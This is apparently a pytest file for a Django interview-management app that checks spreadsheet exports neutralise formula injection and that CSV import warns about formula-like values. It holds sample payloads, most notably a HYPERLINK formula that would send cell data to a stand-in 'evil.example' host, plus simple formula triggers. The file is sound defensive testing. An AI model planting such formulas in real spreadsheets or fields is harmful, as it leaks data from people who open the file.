"""Text from people never becomes a formula in a spreadsheet we write (OWASP CSV/XLSX injection).

A candidate named `=HYPERLINK(...)` was a live formula in readiness.xlsx and export.xlsx. Every
text cell is now written as text, and a value that a spreadsheet would run is flagged as text
(Excel's "quote prefix", what typing a leading apostrophe does); the import warns about it.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from interviewdesk.core.spreadsheets import FORMULA_TRIGGERS, workbook_bytes
from interviewdesk.procedures.models import Role
from tests.assessment.conftest import complete
from tests.factories import (
    AppointmentFactory,
    CandidateFactory,
    ProcedureFactory,
    jury_with_members,
    member,
    with_profile,
)
from tests.procedures.helpers import csv_bytes, person
from tests.procedures.test_views_import import upload, urls

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
NASTY = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def cells(data: bytes):
    """Every cell of every sheet, as openpyxl reads it back."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def no_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_every_dangerous_leading_character_is_kept_as_quoted_text():
    data = workbook_bytes([("People", ["Name", "Count"], [[value, 3] for value in NASTY])])
    no_formula(data)
    read = [c for c in cells(data) if c.row > 1 and c.column == 1]
    # The text itself is unchanged (XML reads a carriage return back as a line feed).
    assert [c.value for c in read] == [v.replace("\r", "\n") for v in NASTY]
    assert all(c.data_type == "s" and c.quotePrefix for c in read)
    assert [c.value for c in cells(data) if c.row > 1 and c.column == 2] == [3] * len(NASTY)
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.django_db
def test_readiness_xlsx_writes_a_formula_name_as_text(client):
    procedure = ProcedureFactory()
    candidate = CandidateFactory(procedure=procedure, last_name=EVIL, first_name="@SUM(1+1)")
    # A session without a proctor yet: every proctor of the procedure lists its candidate (need-to-know).
    AppointmentFactory(procedure=procedure, candidate=candidate)
    client.force_login(member(procedure, Role.PROCTOR))
    data = client.get(f"/procedures/{procedure.pk}/readiness.xlsx").content
    no_formula(data)
    row = [c for c in cells(data) if c.row == 2]
    assert (row[0].value, row[0].quotePrefix, row[1].value, row[1].quotePrefix) == (EVIL, True, "@SUM(1+1)", True)


@pytest.mark.django_db
def test_results_export_writes_a_formula_name_and_a_formula_jury_member_as_text(client):
    procedure = with_profile(ProcedureFactory())
    officer = member(procedure, Role.SELECTION_OFFICER)
    jury = jury_with_members(procedure)
    panel = [jury.chair, *[m.user for m in jury.members.filter(role="assessor").order_by("id")]]
    panel[1].first_name = "-1+cmd"
    panel[1].save()
    from tests.factories import AppointmentFactory

    appointment = AppointmentFactory(procedure=procedure, jury=jury,
                                     candidate=CandidateFactory(procedure=procedure, first_name=EVIL))
    complete(appointment, panel, {u: [4, 4] for u in panel}, [4, 4])
    client.force_login(officer)
    data = client.get(reverse("assessment:export", kwargs={"pk": procedure.pk})).content
    no_formula(data)
    texts = {c.value: c.quotePrefix for c in cells(data) if isinstance(c.value, str)}
    name = next(v for v in texts if EVIL in v)
    assert name.startswith(EVIL) and texts[name] is True
    assert any(v.startswith("-1+cmd") and quoted for v, quoted in texts.items()), texts


@pytest.mark.django_db
def test_the_import_preview_warns_about_values_a_spreadsheet_would_run(client):
    from tests.factories import staffed_procedure

    staff = staffed_procedure()
    client.force_login(staff.officer)
    upload(client, staff.procedure, csv_bytes([person(1, last_name="=1+2"), person(2, motivation="@SUM(A1)"),
                                               person(3)]))
    preview = client.get(urls(staff.procedure)["preview"])
    page = preview.content.decode()
    assert preview.context["result"].is_valid  # a warning, not an error: the name may be real
    warnings = [(w.row, w.column) for w in preview.context["result"].warnings]
    assert warnings == [(2, "last_name"), (3, "motivation")]
    assert "a spreadsheet would run it as a formula" in page
